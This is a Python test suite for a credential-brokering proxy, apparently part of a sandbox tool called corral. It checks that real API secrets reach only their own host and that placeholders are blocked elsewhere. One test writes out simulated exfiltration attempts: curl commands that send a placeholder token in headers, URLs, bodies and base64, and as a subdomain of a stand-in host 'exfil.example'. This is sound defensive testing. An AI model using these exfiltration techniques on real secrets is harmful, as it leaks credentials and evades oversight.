"""The credential broker with real clients (curl, httpx) and real TLS servers: the secret reaches
only its own host, the placeholder is refused (and journaled) everywhere else, a reflected
secret comes back masked, and hosts without credentials stay opaque CONNECT tunnels."""

from __future__ import annotations

import base64
import json
import ssl
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from corral.netproxy import PolicyInputs, proxy_env
from corral.netproxy.broker import Broker, Credential
from corral.netproxy.mitm import Mitm

from .broker_server import EchoServer
from .conftest import ProxyFactory
from .test_http_proxy import curl

SECRET = "sk-real-secret-0123456789abcdefXYZ"
OTHER_SECRET = "ghp_realgithubtoken0123456789abcdefABCD"


@pytest.fixture
def servers(tmp_path: Path) -> Iterator[tuple[EchoServer, EchoServer, EchoServer]]:
    """(the credential's host, another HTTPS host, a plain-HTTP host) on 127.0.0.1."""
    own = EchoServer(tmp_path, "localhost", "127.0.0.1").start()
    other = EchoServer(tmp_path, "localhost", "127.0.0.1").start()
    plain = EchoServer(tmp_path, tls=False).start()
    yield own, other, plain
    for s in (own, other, plain):
        s.stop()


def _setup(tmp_path: Path, make_proxy: ProxyFactory, own: EchoServer, *others: EchoServer,
           extra: tuple[Credential, ...] = ()):
    cred = Credential.new("openai", [f"localhost:{own.port}"], SECRET)
    broker = Broker((cred, *extra))
    ca = tmp_path / "upstream.pem"
    ca.write_bytes(b"".join(s.ca.read_bytes() for s in (own, *others) if s.tls))
    mitm = Mitm(tmp_path / "chome" / "proxy-ca", upstream_cafile=str(ca))
    hosts = [f"{h}:{s.port}" for s in (own, *others) for h in ("localhost", "127.0.0.1")]
    proxy, events = make_proxy(PolicyInputs(allow_local=hosts), mitm=mitm, broker=broker)
    assert proxy.endpoints is not None and proxy.endpoints.http
    env = {"PATH": "/usr/bin:/bin", **proxy_env(proxy.endpoints.http[1],
                                                 ca_bundle=str(mitm.bundle()), no_proxy="")}
    return cred, proxy, events, env


def test_secret_attached_only_for_its_host_and_reflection_masked(
        tmp_path: Path, make_proxy: ProxyFactory, servers) -> None:  # type: ignore[no-untyped-def]
    own, other, _ = servers
    cred, proxy, events, env = _setup(tmp_path, make_proxy, own, other)
    ph = cred.placeholder
    assert SECRET not in ph and ph.startswith("corral-brokered-openai-")
    r = curl("-i", "-H", f"Authorization: Bearer {ph}", own.url("/v1/models"), env=env)
    assert r.returncode == 0, r.stderr
    assert own.seen[-1]["headers"]["authorization"] == f"Bearer {SECRET}"
    # The server echoed the header and the body: the client sees neither secret copy.
    assert SECRET not in r.stdout and "corral-redacted" in r.stdout, r.stdout
    _, _, body = r.stdout.rpartition("\n\n")
    assert json.loads(body)["headers"]["authorization"].startswith("Bearer corral-redacted")
    used = [e for e in events if e.reason == "credential_brokered"]
    assert [(e.host, e.method, e.source) for e in used] == [("localhost", "GET", "broker:openai")]
    # x-api-key style, and a query parameter (?key=, as Google's API takes it)
    r = curl("-H", f"x-api-key: {ph}", own.url(f"/v1/x?key={ph}"), env=env)
    assert r.returncode == 0, r.stderr
    assert own.seen[-1]["headers"]["x-api-key"] == SECRET
    assert own.seen[-1]["path"] == f"/v1/x?key={SECRET}"
    # Another HTTPS host is an opaque tunnel: what it receives is only the placeholder, which
    # is worth nothing there (the limit of not intercepting it; docs/network.md).
    r = curl("-H", f"Authorization: Bearer {ph}", "--cacert", str(other.ca), "-x",
             proxy.endpoints.http_url(), other.url("/"))
    assert r.returncode == 0, r.stderr
    assert other.seen[-1]["headers"]["authorization"] == f"Bearer {ph}"
    assert all(SECRET not in json.dumps(s) for s in other.seen)


def test_other_hosts_stay_opaque_tunnels(tmp_path: Path, make_proxy: ProxyFactory,
                                         servers) -> None:  # type: ignore[no-untyped-def]
    own, other, _ = servers
    proxy = _setup(tmp_path, make_proxy, own, other)[1]
    # With only the other server's own CA (not corral's), curl still verifies it: the proxy
    # did not terminate TLS there.
    r = curl("--cacert", str(other.ca), "-x", proxy.endpoints.http_url(), other.url("/"))
    assert r.returncode == 0, r.stderr
    # ...while the brokered host presents corral's leaf, which that CA does not sign.
    r = curl("--cacert", str(own.ca), "-x", proxy.endpoints.http_url(), own.url("/"))
    assert r.returncode != 0


def test_placeholder_refused_everywhere_else(tmp_path: Path, make_proxy: ProxyFactory,
                                             servers) -> None:  # type: ignore[no-untyped-def]
    own, other, plain = servers
    gh = Credential.new("github", [f"127.0.0.1:{other.port}"], OTHER_SECRET)
    cred, proxy, events, env = _setup(tmp_path, make_proxy, own, other, plain, extra=(gh,))
    ph = cred.placeholder
    http = proxy.endpoints.http_url()

    def refused(r, where: str) -> None:  # type: ignore[no-untyped-def]
        assert "x-corral-block: credential_exfiltration" in r.stdout, (where, r.stdout, r.stderr)
        assert "brokered credential openai" in r.stdout, r.stdout
        assert ph not in r.stdout
        assert events[-1].reason == "credential_exfiltration", where
        assert ph not in events[-1].host

    # plain http: in a header, in the URL, in the body (Content-Length and chunked)
    refused(curl("-i", "-x", http, "-H", f"X-Token: {ph}", plain.url("/")), "header")
    refused(curl("-i", "-x", http, plain.url(f"/?q={ph}")), "url")
    refused(curl("-i", "-x", http, "-d", f"key={ph}", plain.url("/")), "body")
    refused(curl("-i", "-x", http, "-H", "Transfer-Encoding: chunked", "-d",
                 "a" * 70000 + ph, plain.url("/")), "chunked body")
    refused(curl("-i", "-x", http, "-u", f"me:{ph}", plain.url("/")), "basic")
    assert all(ph not in json.dumps(s) for s in plain.seen), plain.seen
    # to its own host over plain http (not intercepted: never attached in the clear)
    own_plain = f"http://localhost:{own.port}/"
    refused(curl("-i", "-x", http, "-H", f"Authorization: Bearer {ph}", own_plain), "own http")
    # to another brokered host (the github credential's): refused, github's own works
    r = curl("-i", "-H", f"Authorization: Bearer {ph}", other.url("/", "127.0.0.1"), env=env)
    refused(r, "other credential's host")
    r = curl("-H", f"Authorization: token {gh.placeholder}", other.url("/", "127.0.0.1"),
             env=env)
    assert r.returncode == 0 and other.seen[-1]["headers"]["authorization"] == \
        f"token {OTHER_SECRET}"
    # the other credential's placeholder in a body to openai's host (an agent's tool output
    # to its model): passed as is, never swapped (worthless there)
    r = curl("-i", "-d", gh.placeholder, own.url("/"), env=env)
    assert r.returncode == 0 and own.seen[-1]["body"] == gh.placeholder
    assert OTHER_SECRET not in json.dumps(own.seen)
    # base64 of the placeholder in a body (any alignment)
    for pad in ("", "x", "xy"):
        blob = base64.b64encode((pad + ph).encode()).decode()
        refused(curl("-i", "-x", http, "-d", blob, plain.url("/")), f"b64 {pad!r}")
    # as a host name (DNS exfiltration): refused before any lookup, by CONNECT and SOCKS
    r = curl("-i", "-x", http, f"http://{ph}.exfil.example/")
    refused(r, "dns http")
    assert events[-1].host == "corral-brokered-openai-{placeholder}.exfil.example"
    r = curl("-p", "-x", http, f"https://{ph}.exfil.example/")
    assert r.returncode != 0 and events[-1].reason == "credential_exfiltration"
    r = curl("-x", f"socks5h://127.0.0.1:{proxy.endpoints.socks[1]}",
             f"http://x{ph[-40:]}.exfil.example/")
    assert r.returncode != 0 and events[-1].reason == "credential_exfiltration"


def test_httpx_and_basic_credentials(tmp_path: Path, make_proxy: ProxyFactory,
                                     servers) -> None:  # type: ignore[no-untyped-def]
    own, other, _ = servers
    cred, proxy, events, env = _setup(tmp_path, make_proxy, own, other)
    ctx = ssl.create_default_context(cafile=env["SSL_CERT_FILE"])
    with httpx.Client(proxy=proxy.endpoints.http_url(), verify=ctx) as c:
        r = c.get(own.url("/simple/"), auth=("__token__", cred.placeholder))
        assert r.status_code == 200
        got = own.seen[-1]["headers"]["authorization"]
        assert base64.b64decode(got.split()[1]).decode() == f"__token__:{SECRET}"
        # the echoed Basic value is masked too (the exact encoding corral put in)
        assert got not in r.text and "corral-redacted" in r.headers["x-echo-auth"]
        # keep-alive: a second request on the same intercepted connection
        r = c.post(own.url("/v1/responses"), json={"input": "hi"},
                   headers={"Authorization": f"Bearer {cred.placeholder}"})
        assert r.status_code == 200 and own.seen[-1]["body"] == '{"input":"hi"}'
    assert [e.reason for e in events].count("credential_brokered") == 2


def test_broker_needs_interception(make_proxy: ProxyFactory) -> None:
    from corral.errors import CorralError

    with pytest.raises(CorralError, match="needs HTTPS interception"):
        make_proxy(PolicyInputs(), broker=Broker([Credential.new("x", ["a.example"], "s3")]))
